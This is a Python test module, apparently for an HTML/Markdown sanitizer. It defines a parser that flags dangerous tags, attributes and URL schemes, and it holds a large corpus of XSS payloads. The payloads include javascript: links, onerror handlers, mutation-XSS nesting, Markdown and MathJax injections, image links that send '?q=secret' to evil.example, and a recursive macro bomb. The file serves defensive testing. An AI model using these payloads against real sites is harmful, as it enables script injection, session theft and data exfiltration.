"""What must never happen on a page, and texts that try to make it happen."""

from html.parser import HTMLParser

# ruff: noqa: E501 (tables of samples)

ALLOWED_SCHEMES = ("http://", "https://", "mailto:")
LOADING_ATTRIBUTES = {
    "action", "archive", "background", "cite", "classid", "codebase", "data", "formaction", "icon", "longdesc", "manifest",
    "ping", "poster", "profile", "src", "srcdoc", "srcset", "style", "usemap", "xlink:href", "id", "name", "is", "slot",
}  # fmt: skip
LOADING_TAGS = {
    "animate", "applet", "audio", "base", "embed", "form", "frame", "iframe", "image", "img", "input", "link", "meta",
    "noscript", "object", "picture", "script", "set", "source", "style", "svg", "template", "textarea", "title", "track",
    "use", "video", "xmp", "plaintext", "annotation-xml", "select", "option", "maction",
}  # fmt: skip


class Faults(HTMLParser):
    """Collects what would run, load, restyle or be mistaken for the page's own."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.faults: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in LOADING_TAGS:
            self.faults.append(f"<{tag}>")
        for name, value in attrs:
            if name.startswith(("on", "hx-")) or name in LOADING_ATTRIBUTES:
                self.faults.append(f"<{tag} {name}>")
            if name == "href" and not (tag == "a" and (value or "").lower().startswith(ALLOWED_SCHEMES)):
                self.faults.append(f"<{tag} href={value!r}>")
        if tag == "a":
            kept = dict(attrs)
            if kept.get("target") != "_blank" or kept.get("rel") != "noopener noreferrer nofollow":
                self.faults.append(f"<a> that opens here: {attrs}")

    def handle_comment(self, data: str) -> None:
        self.faults.append(f"<!--{data}-->")

    def handle_decl(self, decl: str) -> None:
        self.faults.append(f"<!{decl}>")

    def handle_pi(self, data: str) -> None:
        self.faults.append(f"<?{data}>")

    def unknown_decl(self, data: str) -> None:
        self.faults.append(f"<![{data}]>")


def faults(html: str) -> list[str]:
    parser = Faults()
    parser.feed(html)
    parser.close()
    return parser.faults


CORPUS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "text <img src=x onerror=alert(1)> text",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><maction actiontype='statusline#http://e' xlink:href='javascript:alert(1)'>x</maction></math>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<body onload=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='https://x' onclick='alert(1)'>x</a>",
    "<form action='https://evil.example'><input name=csrf></form>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<div style='background:url(https://evil.example)'>x</div>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href='https://evil.example/'>",
    "<object data='https://evil.example/x.swf'></object>",
    "<video poster='https://evil.example/p.png'><source src=x></video>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<template><img src=x onerror=alert(1)></template>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version='1.0'?><x onclick=1>",
    "<!DOCTYPE html><x>",
    "<b id=chat name=csrfmiddlewaretoken class=composer hx-get=/logout>x</b>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x]( javascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](<java\nscript:alert(1)>)",
    "[x](\x01javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    "[x](//evil.example)",
    "[x](/logout)",
    "[x](https:evil.example)",
    "[x](blob:https://x/1)",
    '[x](https://e.example/"onmouseover="alert(1))',
    "[x](https://e.example '\"onmouseover=\"alert(1)')",
    "[x](https://e.example \"' onmouseover='alert(1)\")",
    "[x][r]\n\n[r]: javascript:alert(1)",
    '[x][r]\n\n[r]: https://e.example "\\" onclick=\\"alert(1)"',
    "[r]: data:text/html,x\n\n[r]",
    "<javascript:alert(1)>",
    "<data:text/html,<script>alert(1)</script>>",
    '<https://e.example/"onclick=alert(1)>',
    'https://e.example/"onclick=alert(1)//',
    "https://e.example/<img src=x onerror=alert(1)>",
    "![x](https://evil.example/?q=secret)",
    "![x](https://evil.example/?q=secret 'title')",
    "![x][r]\n\n[r]: https://evil.example/?q=secret",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "![x](javascript:alert(1))",
    "![<img src=x onerror=alert(1)>](https://evil.example)",
    '!["onerror="alert(1)](x)',
    "[![x](https://evil.example/a.png)](javascript:alert(1))",
    "![[x](javascript:alert(1))](https://evil.example)",
    "![x](https://[::1/broken)",
    '```"><script>alert(1)</script>\nx\n```',
    "```html onload=alert(1) {.x #y style=z}\n<script>alert(1)</script>\n```",
    "```mermaid\n%%{init: {'securityLevel': 'loose'}}%%\ngraph TD; A[<img src=x onerror=alert(1)>]\n```",
    "`<script>alert(1)</script>`",
    "# <script>alert(1)</script> {#id .class onclick=alert(1)}",
    "| <script>alert(1)</script> | [x](javascript:alert(1)) |\n|---|---|\n| <img src=x onerror=alert(1)> | ![x](https://e) |",
    "- [x] <script>alert(1)</script>",
    "[^<script>alert(1)</script>]\n\n[^<script>alert(1)</script>]: <img src=x onerror=alert(1)>",
    "> [!NOTE]\n> <script>alert(1)</script>",
    "$\\text{<script>alert(1)</script>}$",
    "$\\text{</math><img src=x onerror=alert(1)>}$",
    "$$\\href{javascript:alert(1)}{x}$$",
    "$\\class{composer}{x} \\style{background:url(//e)}{x} \\cssId{chat}{x} \\html{<script>}$",
    "$\\unicode{60}script\\unicode{62}$ $&lt;script&gt;$ $\\mbox{&#60;script&#62;}$",
    '$\\color{red" onclick="alert(1)}{x}$',
    '$\\hspace{1em" onclick="alert(1)}$',
    "\\(\\text{<img src=x onerror=alert(1)>}\\) \\[<script>alert(1)</script>\\]",
    "$\\newcommand{\\a}{\\b\\b}\\newcommand{\\b}{\\a\\a}\\a$",
    "$" + "{" * 500 + "$",
    "$\\frac{<img src=x onerror=alert(1)>$",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "\\<script>alert(1)\\</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img/src='x'/onerror=alert(1)>",
    "<x\nonclick=alert(1)\n>",
    "<br onclick=alert(1)>",
    "\u202e<script>alert(1)</script>",
    "\x00<scr\x00ipt>alert(1)</script>",
]
